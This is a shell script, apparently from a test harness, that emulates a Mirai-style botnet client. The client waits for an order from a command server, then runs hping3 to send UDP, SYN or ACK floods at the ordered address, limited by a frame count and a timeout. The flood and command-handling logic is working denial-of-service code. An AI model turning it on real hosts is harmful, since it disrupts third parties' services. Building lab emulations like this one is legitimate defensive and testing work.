# A bot that waits for an order, and does what it says with hping3: at most FRAMES frames, at most so many seconds.
mkfifo /tmp/events
emulate mirai-bot --server "$SERVER_ADDRESS:23" --reports "$SERVER_ADDRESS:48101" --name "$HOST" \
	--ping "${PING}s" --tries "$TRIES" --again "${AGAIN}s" --orders 1 >/tmp/events &
bot=$!
if [ "$FAILURE" = denied ]; then
	(
		await denied
		kill $bot
	) &
fi
online=0
order=none
sent=0
while read -r word rest; do
	echo "$word $rest"
	case $word in
	online)
		online=1
		[ "$FAILURE" != denied ] || signal "online-$INDEX"
		;;
	order) order=$rest ;;
	esac
done </tmp/events
wait $bot
if [ "$order" != none ]; then
	phase flood
	read -r vector address seconds port size <<-END
		$order
	END
	set -- -q -n -c "$FRAMES" -i "u$INTERVAL" -p "${port#dport=}" -d "${size#size=}"
	case $vector in
	udp) set -- "$@" --udp ;;
	syn) set -- "$@" -S ;;
	ack) set -- "$@" -A ;;
	esac
	# Its status tells whether there were answers.
	timeout -s INT "$seconds" hping3 "$@" "$address" >/root/said 2>&1 || true
	cat /root/said
	sent=$(sed -n 's/^\([0-9]*\) packets transmitted.*/\1/p' /root/said)
fi
if [ "$INDEX" = 1 ]; then
	outcome online=$online
	outcome ordered="$order"
	outcome sent="$sent"
fi
signal "over-$INDEX"
